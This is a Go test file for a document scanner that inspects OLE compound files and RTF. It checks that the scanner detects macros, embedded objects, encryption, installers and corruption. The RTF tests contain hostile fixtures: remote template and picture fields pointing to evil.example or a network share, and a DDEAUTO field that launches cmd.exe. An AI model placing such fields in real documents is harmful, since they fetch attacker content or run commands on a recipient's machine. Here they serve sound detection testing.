package ole

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"satchel/policies/verdict"
)

// record packs a record of a workbook.
func record(kind uint16, body ...byte) []byte {
	b := binary.LittleEndian.AppendUint16(nil, kind)
	return append(binary.LittleEndian.AppendUint16(b, uint16(len(body))), body...)
}

func workbook(records ...[]byte) []byte {
	bof := record(recordBOF, 0, 6, 5, 0)
	return append(append(bof, bytes.Join(records, nil)...), record(0x000a)...)
}

// slide packs a record of a presentation.
func slide(version, kind uint16, body []byte) []byte {
	b := binary.LittleEndian.AppendUint16(nil, version)
	b = binary.LittleEndian.AppendUint16(b, kind)
	return append(binary.LittleEndian.AppendUint32(b, uint32(len(body))), body...)
}

func packed(t *testing.T, content []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	_, err := z.Write(content)
	require.NoError(t, err)
	require.NoError(t, z.Close())
	return append(binary.LittleEndian.AppendUint32(nil, uint32(len(content))), b.Bytes()...)
}

func wordStream(flags uint16) []byte {
	b := make([]byte, 4096)
	binary.LittleEndian.PutUint16(b, 0xa5ec)
	binary.LittleEndian.PutUint16(b[10:], flags)
	return b
}

var (
	sheet  = record(recordBoundSheet, 0, 0, 0, 0, 0, 0, 1, 0, 'A')
	macros = record(recordBoundSheet, 0, 0, 0, 0, 0, 1, 1, 0, 'M')
	class  = func(first byte) []byte {
		return append([]byte{first, 0xce, 0x02, 0}, "\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"...)
	}
	msi       = []byte("\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	goodWord  = entry{name: "WordDocument", content: wordStream(0)}
	goodSheet = entry{name: "Workbook", content: workbook(sheet)}
)

func TestCompoundFiles(t *testing.T) {
	t.Parallel()
	slides := func(records ...[]byte) entry {
		return entry{name: "PowerPoint Document", content: bytes.Join(records, nil)}
	}
	withMacros := compound(nil, entry{name: "x", children: []entry{{name: "VBA", children: []entry{{name: "dir", content: []byte("x")}}}}})
	chart := compound(nil, goodSheet)
	for name, tc := range map[string]struct {
		content  []byte
		document string
		rule     Rule
	}{
		"Word":                           {compound(nil, goodWord, entry{name: "\x05SummaryInformation", content: []byte("x")}), word, ""},
		"Excel":                          {compound(nil, goodSheet), excel, ""},
		"Excel 5":                        {compound(nil, entry{name: "Book", content: workbook(sheet)}), excel, ""},
		"PowerPoint":                     {compound(nil, slides(slide(0xf, 0x03e8, slide(0, 0x03e9, []byte("x"))))), powerPoint, ""},
		"Publisher":                      {compound(nil, entry{name: "Quill", children: []entry{{name: "QuillSub", content: []byte("x")}}}), publisher, ""},
		"Visio":                          {compound(nil, entry{name: "VisioDocument", content: []byte("x")}), visio, ""},
		"another compound file":          {compound(nil, entry{name: "__properties_version1.0", content: []byte("x")}), "", ""},
		"Word with a table of Excel":     {compound(nil, goodWord, entry{name: "ObjectPool", children: []entry{{name: "_1", children: []entry{goodSheet}}}}), word, ""},
		"PowerPoint with a chart":        {compound(nil, slides(slide(0x10, recordStorage, packed(t, chart)))), powerPoint, ""},
		"Word with macros":               {compound(nil, goodWord, entry{name: "Macros", children: []entry{{name: "VBA", content: []byte("x")}}}), "", Macros},
		"Excel with macros":              {compound(nil, goodSheet, entry{name: "_VBA_PROJECT_CUR", children: []entry{{name: "VBA", content: []byte("x")}}}), "", Macros},
		"Excel 4 macros":                 {compound(nil, entry{name: "Workbook", content: workbook(sheet, macros)}), "", Macros},
		"Excel 4 macros by their stream": {compound(nil, entry{name: "Workbook", content: append(workbook(sheet), record(recordBOF, 0, 6, 0x40, 0)...)}), "", Macros},
		"an inner workbook's macros":     {compound(nil, goodWord, entry{name: "ObjectPool", children: []entry{{name: "_1", children: []entry{{name: "Workbook", content: workbook(macros)}}}}}), "", Macros},
		"PowerPoint with macros":         {compound(nil, slides(slide(0xf, 0x03e8, slide(0, recordVBAInfoAtom, []byte("\x01\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00"))))), "", Macros},
		"an object's macros":             {compound(nil, slides(slide(0x10, recordStorage, packed(t, withMacros)))), "", Macros},
		"an object's macros, unpacked":   {compound(nil, slides(slide(0, recordStorage, withMacros))), "", Macros},
		"an embedded file":               {compound(nil, goodWord, entry{name: "ObjectPool", children: []entry{{name: "_1", children: []entry{{name: "\x01Ole10Native", content: []byte("x")}}}}}), "", EmbeddedObject},
		"an old equation":                {compound(nil, goodWord, entry{name: "ObjectPool", children: []entry{{name: "_1", children: []entry{{name: "Equation Native", content: []byte("x")}}}}}), "", EmbeddedObject},
		"an old equation by its class":   {compound(nil, goodWord, entry{name: "_1", class: class(2), children: []entry{{name: "x", content: []byte("x")}}}), "", EmbeddedObject},
		"an equation of MathType":        {compound(nil, goodWord, entry{name: "ObjectPool", children: []entry{{name: "_1", class: class(3), children: []entry{{name: "Equation Native", content: []byte("x")}}}}}), word, ""},
		"Word with a password":           {compound(nil, entry{name: "WordDocument", content: wordStream(0x100)}), "", Encrypted},
		"Excel with a password":          {compound(nil, entry{name: "Workbook", content: workbook(record(recordFilePass, 1, 0), sheet)}), "", Encrypted},
		"PowerPoint with a password":     {compound(nil, entry{name: "Current User", content: append(make([]byte, 12), 0xdf, 0xc4, 0xd1, 0xf3)}), "", Encrypted},
		"a new document with a password": {compound(nil, entry{name: "EncryptionInfo", content: []byte("x")}, entry{name: "EncryptedPackage", content: []byte("x")}), "", Encrypted},
		"an installer":                   {compound(msi, goodWord), "", Executable},
		"a workbook that breaks off":     {compound(nil, entry{name: "Workbook", content: append(bytes.Repeat(sheet, 400), 0x01, 0x01, 0xff, 0xff)}), "", Corrupt},
		"no Word in it":                  {compound(nil, entry{name: "WordDocument", content: []byte("x")}), "", Corrupt},
		"cut off":                        {compound(nil, goodWord)[:3000], "", Corrupt},
		"a header alone":                 {[]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "", Corrupt},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			document, err := Inspect(bytes.NewReader(tc.content), int64(len(tc.content)))
			if tc.rule == "" {
				require.NoError(t, err)
				require.Equal(t, tc.document, document)
				return
			}
			var finding *Finding
			require.ErrorAs(t, err, &finding)
			require.Equal(t, tc.rule, finding.Rule)
			require.Empty(t, document)
		})
	}
	_, err := Inspect(bytes.NewReader(nil), MaxSize+1)
	require.ErrorContains(t, err, string(TooLarge))
}

type broken struct{ err error }

func (b broken) ReadAt([]byte, int64) (int, error) { return 0, b.err }

func (b broken) Read([]byte) (int, error) { return 0, b.err }

// A store that fails is tried again and is no finding about the document.
func TestReaderFails(t *testing.T) {
	t.Parallel()
	down := errors.New("down")
	_, err := Inspect(broken{down}, 10_000)
	require.ErrorIs(t, err, down)
	require.ErrorIs(t, InspectRTF(broken{down}), down)
}

func TestRichText(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		content string
		rule    Rule
	}{
		"a letter":                   {`{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Dear parents,\par see you at http://school.example\par}`, ""},
		"with a picture":             {`{\rtf1{\pict\pngblip ` + strings.Repeat("89504e47", 10_000) + `}}`, ""},
		"with a hyperlink":           {`{\rtf1{\field{\*\fldinst HYPERLINK "http://school.example"}{\fldrslt here}}}`, ""},
		"with a template of its own": {`{\rtf1{\*\template C:\\Templates\\Letter.dotx}}`, ""},
		"an object":                  {`{\rtf1{\object\objemb{\*\objdata 0105}}}`, EmbeddedObject},
		"data of an object alone":    {`{\rtf1{\*\objdata 0105}}`, EmbeddedObject},
		"data behind an odd word":    {"{\\rtf1{\\*\\\\objdata\n0105}}", EmbeddedObject},
		"a template of the web":      {`{\rtf1{\*\template http://evil.example/a.dotm}}`, RemoteTemplate},
		"a template of a share":      {`{\rtf1{\*\template \\\\evil\\a.dotm}}`, RemoteTemplate},
		"a picture of the web":       {`{\rtf1{\field{\*\fldinst INCLUDEPICTURE "http://evil.example/a.png" \\d}}}`, RemoteTemplate},
		"a command":                  {`{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}}}`, Macros},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			err := InspectRTF(strings.NewReader(tc.content))
			if tc.rule == "" {
				require.NoError(t, err)
				return
			}
			var finding *Finding
			require.ErrorAs(t, err, &finding)
			require.Equal(t, tc.rule, finding.Rule)
		})
	}
}

func TestEveryRuleHasSentences(t *testing.T) {
	t.Parallel()
	for _, reason := range Reasons() {
		require.NotEmpty(t, reason.What)
		require.NotEmpty(t, reason.Next)
		require.Contains(t, []verdict.Verdict{verdict.Rejected, verdict.Unscannable}, reason.Class)
		require.Equal(t, reason, reason.Rule.Reason())
	}
}

func FuzzInspect(f *testing.F) {
	f.Add(compound(nil, goodWord))
	f.Add(compound(nil, goodSheet, entry{name: "a", children: []entry{goodWord}}))
	f.Add(compound(nil, entry{name: "PowerPoint Document", content: slide(0x10, recordStorage, compound(nil, goodSheet))}))
	f.Fuzz(func(t *testing.T, content []byte) {
		_, err := Inspect(bytes.NewReader(content), int64(len(content)))
		var finding *Finding
		require.True(t, err == nil || errors.As(err, &finding), "%v", err)
	})
}

func FuzzRTF(f *testing.F) {
	f.Add([]byte(`{\rtf1{\*\objdata 0105}}`))
	f.Fuzz(func(t *testing.T, content []byte) {
		err := InspectRTF(io.Reader(bytes.NewReader(content)))
		var finding *Finding
		require.True(t, err == nil || errors.As(err, &finding), "%v", err)
	})
}
